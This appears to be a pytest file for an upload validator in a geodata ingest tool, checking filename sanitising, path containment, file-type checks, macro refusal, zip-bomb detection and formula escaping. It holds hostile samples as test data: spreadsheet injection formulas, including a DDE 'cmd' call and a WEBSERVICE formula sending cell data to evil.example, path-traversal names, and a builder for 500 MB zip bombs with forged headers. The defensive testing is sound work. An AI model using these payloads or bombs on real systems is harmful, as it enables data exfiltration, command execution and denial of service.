"""Crafted uploads (issue 12): every bad file is refused or neutralised with a message naming the problem.

Files are built in code: the zip bombs are deflate streams of repeated
compressed blocks (500 MB of zeros in ~0.5 MB, built in milliseconds), written
into hand-made ZIP packages so the headers can lie about the sizes.
"""

from __future__ import annotations

import io
import os
import pickle
import re
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geo.access.uploads import UploadError, check_upload, check_xlsx_package, contained_path, safe_filename
from geo.errors import GridwatchError, InputFileError
from geo.ingest.pipeline import ingest_file
from geo.ingest.readers import read_raw
from geo.settings import AccessSettings, Settings
from geo.store.database import read_events
from geo.store.export import write_table

MB = 1024 * 1024
SETTINGS = Settings()
HEADER = ["编号", "巡查时间", "经度", "纬度", "问题类型", "问题描述", "处置状态"]
FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/?"&A1)', "+1+2", "@SUM(A1)",
            "-2+3"]


# --- builders ----------------------------------------------------------------------------------
def patrol_xlsx(texts: list[str]) -> bytes:
    """A patrol export with the given 问题描述 cells (strings starting with '=' become formula cells)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    for i, text in enumerate(texts):
        ws.append([f"R{i:03d}", "2024-03-05 08:30:00", 116.36 + 0.002 * i, 39.905 + 0.001 * i, "占道经营",
                   text, "已处置"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def with_cached_value(xlsx: bytes, formula: str, cached: str) -> bytes:
    """The workbook with a cached result stored next to ``formula`` (as Excel saves it)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(rb"(<f>" + re.escape(formula.encode()) + rb"</f>)(<v\s*/>|<v></v>)?",
                                  rb"\1<v>" + cached.encode() + rb"</v>", data)
                assert n == 1
            dst.writestr(info, data)
    return out.getvalue()


def hand_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP from (name, payload, method, declared uncompressed size) — the sizes may lie."""
    out = io.BytesIO()
    central = []
    for name, payload, method, size in members:
        offset = out.tell()
        nb = name.encode()
        crc = zlib.crc32(payload) if method == zipfile.ZIP_STORED else 0
        out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(payload), size,
                              len(nb), 0) + nb + payload)
        central.append(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc,
                                   len(payload), size, len(nb), 0, 0, 0, 0, 0, offset) + nb)
    start = out.tell()
    for c in central:
        out.write(c)
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start,
                          start, 0))
    return out.getvalue()


def zeros_deflate(mb: int) -> bytes:
    """A raw deflate stream of ``mb`` MiB of '0' characters (one compressed block repeated)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b"0" * MB) + c.flush(zlib.Z_FULL_FLUSH)  # byte-aligned, no back-references across
    return block * mb + b"\x03\x00"  # + an empty final block


def bomb_xlsx(mb: int, *, lie: bool, extra: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A real workbook whose sheet1.xml is replaced by ``mb`` MiB of zeros (headers honest or lying)."""
    src = zipfile.ZipFile(io.BytesIO(patrol_xlsx(["x"])))
    members = [(i.filename, src.read(i), zipfile.ZIP_STORED, i.file_size) for i in src.infolist()
               if i.filename != "xl/worksheets/sheet1.xml"]
    members += [(n, d, zipfile.ZIP_STORED, len(d)) for n, d in extra]
    members.append(("xl/worksheets/sheet1.xml", zeros_deflate(mb), zipfile.ZIP_DEFLATED,
                    1024 if lie else mb * MB))
    return hand_zip(members)


def add_member(xlsx: bytes, name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(name, data)
    return out.getvalue()


def refused(name: str, data: bytes, *match: str, settings=SETTINGS) -> str:  # type: ignore[no-untyped-def]
    with pytest.raises(UploadError) as exc:
        check_upload(name, data, settings)
    msg = str(exc.value)
    for m in match:
        assert m in msg, msg
    return msg


# --- the deflate builder itself ----------------------------------------------------------------
def test_zeros_deflate_really_inflates_to_its_size():
    stream = zeros_deflate(3)
    out = zlib.decompressobj(-15)
    data = out.decompress(stream)
    assert out.eof and len(data) == 3 * MB and set(data) == {ord("0")}
    assert len(zeros_deflate(500)) < 600_000  # a 500 MB sheet in about half a megabyte


# --- names and paths ---------------------------------------------------------------------------
@pytest.mark.parametrize(("name", "safe"), [
    ("../../x.csv", "x.csv"),
    ("..\\..\\x.csv", "x.csv"),
    ("/etc/passwd", "passwd"),
    ("a\x00.csv", "a.csv"),
    ("C:\\Users\\王\\Desktop\\投诉 2024年3月.xlsx", "投诉 2024年3月.xlsx"),
    ("C:x.csv", "x.csv"),
    ("西城区12345工单.csv", "西城区12345工单.csv"),
    (".hidden.csv", "hidden.csv"),
    ("evil\u202egpj.csv", "evilgpj.csv"),  # a right-to-left override would disguise the suffix
    ("a\nb\r.csv", "ab.csv"),
    ("CON.csv", "_CON.csv"),
    ('a<b>:"c"|?*.csv', "a_b___c____.csv"),
    ("x" * 300 + ".csv", "x" * 196 + ".csv"),
])
def test_safe_filename_keeps_only_a_plain_base_name(name, safe):
    assert safe_filename(name) == safe


@pytest.mark.parametrize("name", ["", "..", "../..", "/", "\\", "\x00", " . "])
def test_safe_filename_refuses_names_with_nothing_left(name):
    with pytest.raises(UploadError, match="no usable name"):
        safe_filename(name)


def test_contained_path_stays_inside_the_root(tmp_path):
    root = tmp_path / "ws"
    (root / "raw").mkdir(parents=True)
    assert contained_path(root, "raw/a.csv") == (root / "raw" / "a.csv").resolve()
    assert contained_path(root, root / "raw") == (root / "raw").resolve()
    assert contained_path(root, "raw/../raw/b.csv") == (root / "raw" / "b.csv").resolve()
    for bad in ("../x.csv", "raw/../../x.csv", "/etc/passwd", str(tmp_path / "other.csv")):
        with pytest.raises(UploadError, match="outside the workspace"):
            contained_path(root, bad)
    with pytest.raises(UploadError, match="NUL"):
        contained_path(root, "raw/a\x00.csv")
    # a symbolic link inside the workspace that points out of it is followed and refused
    (tmp_path / "secret").mkdir()
    os.symlink(tmp_path / "secret", root / "link")
    with pytest.raises(UploadError, match="outside the workspace"):
        contained_path(root, "link/s.csv")


# --- good uploads pass -------------------------------------------------------------------------
def test_ordinary_uploads_pass_and_get_a_safe_name(tmp_path):
    csv = "编号,问题描述\nR1,占道经营\n".encode()
    assert check_upload("../../投诉.csv", csv, SETTINGS) == "投诉.csv"
    assert check_upload("t.txt", "\ufeffa\tb\n1\t2\n".encode(), SETTINGS.access) == "t.txt"
    assert check_upload("gbk.csv", "编号,描述\nR1,占道\n".encode("gb18030"), SETTINGS) == "gbk.csv"
    assert check_upload("a.xlsx", patrol_xlsx(["x"]), SETTINGS) == "a.xlsx"
    assert check_upload("a.GEOJSON", b'\xef\xbb\xbf  {"type": "FeatureCollection", "features": []}',
                        SETTINGS) == "a.GEOJSON"
    pd.DataFrame({"a": [1, 2]}).to_parquet(tmp_path / "a.parquet")
    assert check_upload("a.parquet", (tmp_path / "a.parquet").read_bytes(), SETTINGS) == "a.parquet"


# --- size and type -----------------------------------------------------------------------------
def test_oversized_upload_is_refused_with_the_limit_named():
    small = AccessSettings(upload_max_mb=0.5)
    data = b"a,b\n" + b"1,2\n" * (MB // 4)  # 1 MiB
    msg = refused("big.csv", data, "1.0 MB", "upload limit of 0.5 MB", "access.upload_max_mb", "split",
                  settings=small)
    assert "big.csv" in msg
    assert check_upload("ok.csv", data[: MB // 4], small) == "ok.csv"


def test_empty_upload_is_refused():
    refused("e.csv", b"", "empty")


@pytest.mark.parametrize(("name", "words"), [
    ("m.xlsm", ("macro-enabled", ".xlsx")),
    ("m.XLSM", ("macro-enabled",)),
    ("t.xltm", ("macro-enabled",)),
    ("old.xls", ("Excel 97-2003", ".xlsx")),
    ("b.xlsb", ("binary workbooks",)),
    ("d.pkl", ("pickle", "arbitrary code")),
    ("run.py", ("'.py' is not accepted", ".csv")),
    ("x.exe", ("'.exe' is not accepted",)),
    ("noext", ("(no extension)",)),
    ("../../etc/passwd", ("(no extension)",)),
])
def test_refused_and_unlisted_types(name, words):
    msg = refused(name, patrol_xlsx(["x"]) if "xl" in name else b"a,b\n1,2\n", *words)
    assert safe_filename(name) in msg


def test_the_type_list_comes_from_the_settings():
    only_csv = AccessSettings(upload_types=(".csv",))
    refused("a.xlsx", patrol_xlsx(["x"]), "'.xlsx' is not accepted; upload one of .csv", settings=only_csv)


# --- content that does not match its suffix ----------------------------------------------------
@pytest.mark.parametrize(("name", "data", "words"), [
    ("p.csv", pickle.dumps({"a": [1, 2]}, protocol=5), ("Python pickle",)),
    ("p2.csv", pickle.dumps({"a": 1}, protocol=2), ("Python pickle",)),
    ("p0.csv", pickle.dumps(pd.Timestamp, protocol=0), ("Python pickle",)),  # protocol 0 is ASCII text
    ("p.json", pickle.dumps([1], protocol=4), ("Python pickle", "not JSON")),
    ("z.csv", patrol_xlsx(["x"]), ("ZIP package",)),
    ("z.txt", b"PK\x05\x06" + b"\x00" * 18, ("ZIP package",)),
    ("elf.csv", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, ("Linux program",)),
    ("exe.csv", b"MZ\x90\x00\x03" + b"\x00" * 100, ("Windows program",)),
    ("gz.csv", zlib.compress(b"a,b\n") and b"\x1f\x8b\x08" + b"\x00" * 20, ("compressed archive",)),
    ("ole.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ("old Excel", "save it as .xlsx")),
    ("csv.xlsx", "编号,描述\n1,2\n".encode(), ("not a ZIP package", "rename it to .csv")),
    ("zip.xlsx", b"PK\x03\x04" + b"\x00" * 40, ("not a valid .xlsx",)),
    ("pq.parquet", b"a,b\n1,2\n", ("not a Parquet file",)),
    ("half.parquet", b"PAR1" + b"\x00" * 20, ("not a Parquet file",)),
    ("t.json", "编号,描述\n".encode(), ("does not start with '{' or '['",)),
    ("bin.csv", b"a,b\n\x00\x01\x02\x03", ("not text",)),
])
def test_content_not_matching_the_suffix_is_refused(name, data, words):
    refused(name, data, *words)


def test_csv_text_that_happens_to_start_like_pickle_opcodes_passes():
    # 'c' is pickle's GLOBAL opcode and '(' its MARK: ordinary CSVs must not trip the check
    for text in ("city,lon,lat\nBeijing,116.4,39.9\n", "(a),b\n1,2\n", "cos\nsystem\n(S'ls'\n"):
        assert check_upload("t.csv", text.encode(), SETTINGS) == "t.csv"


# --- active content in workbooks ---------------------------------------------------------------
@pytest.mark.parametrize(("part", "words"), [
    ("xl/vbaProject.bin", ("macros (vbaProject.bin)", "xl/vbaproject.bin", "save it again as .xlsx")),
    ("xl/externalLinks/externalLink1.xml", ("links to other workbooks",)),
    ("xl/embeddings/oleObject1.bin", ("embedded OLE objects",)),
    ("xl/activeX/activeX1.bin", ("ActiveX",)),
    ("xl/connections.xml", ("external data connections",)),
    ("xl/media/run.exe", ("embedded program",)),
])
def test_xlsx_with_active_content_is_refused(part, words):
    refused("a.xlsx", add_member(patrol_xlsx(["x"]), part, b"\x00" * 64), *words)


def test_xlsx_declaring_macro_content_type_is_refused():
    xlsx = patrol_xlsx(["x"])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
            dst.writestr(info, data)
    refused("a.xlsx", out.getvalue(), "macroEnabled")


def test_the_reader_refuses_macros_but_reads_workbooks_with_links(tmp_path):
    # CLI ingest reads local files: macros are refused there too, links (never followed) are not
    p = tmp_path / "m.xlsx"
    p.write_bytes(add_member(patrol_xlsx(["x"]), "xl/vbaProject.bin", b"\x00" * 64))
    with pytest.raises(InputFileError, match="macro"):
        read_raw(p)
    p.write_bytes(add_member(patrol_xlsx(["x"]), "xl/externalLinks/externalLink1.xml", b"<x/>"))
    assert len(read_raw(p).frame) == 1


# --- zip bombs ---------------------------------------------------------------------------------
def test_zip_bomb_with_honest_headers_is_refused_from_its_declared_size():
    bomb = bomb_xlsx(500, lie=False)
    assert len(bomb) < 600_000
    refused("bomb.xlsx", bomb, "declares more than 400 MB", "zip bomb", "access.xlsx_max_uncompressed_mb")


def test_zip_bomb_with_lying_headers_is_refused_by_inflating_it():
    bomb = bomb_xlsx(500, lie=True)
    with zipfile.ZipFile(io.BytesIO(bomb)) as zf:  # the headers claim a tiny package
        assert sum(i.file_size for i in zf.infolist()) < 20_000
    msg = refused("bomb.xlsx", bomb, "inflates to more than", "zip bomb")
    assert "times its size" in msg  # the ratio limit stops the inflation at ~100 MB, long before 400 MB


def test_forged_sizes_are_refused_even_below_the_bomb_limits():
    # 2 MB real content declared as 1 KB: not a bomb by size, but a forged package
    refused("forged.xlsx", bomb_xlsx(2, lie=True), "more than the 1024 bytes", "forged")


def test_ratio_limit_catches_a_bomb_under_the_size_limit():
    bomb = bomb_xlsx(20, lie=False)  # 20 MB from ~20 KB: ratio ~1000
    refused("ratio.xlsx", bomb, "times its size", "access.xlsx_max_ratio")
    # a workspace that raises the ratio limit accepts it
    assert check_upload("ratio.xlsx", bomb, AccessSettings(xlsx_max_ratio=5000)) == "ratio.xlsx"


def test_the_reader_refuses_a_lying_zip_bomb_read_from_a_path(tmp_path):
    # CLI ingest calls read_raw directly, without check_upload
    p = tmp_path / "bomb.xlsx"
    p.write_bytes(bomb_xlsx(500, lie=True))
    with pytest.raises(UploadError, match="zip bomb") as exc:
        read_raw(p)
    assert isinstance(exc.value, InputFileError) and isinstance(exc.value, GridwatchError)
    with pytest.raises(UploadError, match="declares more than 400 MB"):
        check_xlsx_package(bomb_xlsx(500, lie=False))


# --- formula cells -----------------------------------------------------------------------------
def test_xlsx_formulas_are_read_as_text_never_evaluated(tmp_path):
    xlsx = with_cached_value(patrol_xlsx(FORMULAS), "1+1", "2")  # Excel stores the result next to it
    assert check_upload("f.xlsx", xlsx, SETTINGS) == "f.xlsx"
    p = tmp_path / "f.xlsx"
    p.write_bytes(xlsx)
    text = read_raw(p).frame["问题描述"].tolist()
    assert text == FORMULAS  # the formula text, not the cached 2 and not a computed value


def test_formula_cells_are_stored_as_text_and_escaped_in_exports(xicheng_ws, tmp_path):
    p = tmp_path / "formula.xlsx"
    p.write_bytes(patrol_xlsx(FORMULAS))
    r = ingest_file(p, "patrol", xicheng_ws, crs="WGS84")
    assert (r.read, r.stored) == (len(FORMULAS), len(FORMULAS))
    events = read_events(xicheng_ws.store_path).sort_values("source_row")
    assert events["text"].tolist() == FORMULAS  # kept literally: nothing was run or looked up
    table = events[["event_id", "text"]]
    csv = pd.read_csv(write_table(table, tmp_path / "e.csv"), encoding="utf-8-sig", dtype=str)
    assert csv["text"].tolist() == ["'" + t for t in FORMULAS]
    wb = openpyxl.load_workbook(write_table(table, tmp_path / "e.xlsx"))
    cells = list(wb.active["B"])[1:]
    assert [c.value for c in cells] == ["'" + t for t in FORMULAS]
    assert {c.data_type for c in cells} == {"s"}  # no formula cell in the output workbook


def test_csv_formula_upload_passes_the_check_and_is_neutralised(xicheng_ws, tmp_path):
    rows = "\n".join(f'R{i},2024-03-05 08:30:00,{116.36 + 0.002 * i:.3f},39.905,占道经营,"{t.replace(chr(34), 2 * chr(34))}",已处置'
                     for i, t in enumerate(FORMULAS))
    data = (",".join(HEADER) + "\n" + rows + "\n").encode()
    name = check_upload("../../formula.csv", data, SETTINGS)
    p = tmp_path / name
    p.write_bytes(data)
    ingest_file(p, "patrol", xicheng_ws, crs="WGS84")
    events = read_events(xicheng_ws.store_path)
    out = pd.read_csv(write_table(events[["text"]], tmp_path / "o.csv"), encoding="utf-8-sig", dtype=str)
    assert sorted(out["text"]) == sorted("'" + t for t in FORMULAS)


def test_upload_error_is_a_gridwatch_input_error():
    assert issubclass(UploadError, InputFileError) and issubclass(UploadError, ValueError)
    with pytest.raises(TypeError):
        safe_filename(Path("a.csv"))  # type: ignore[arg-type]
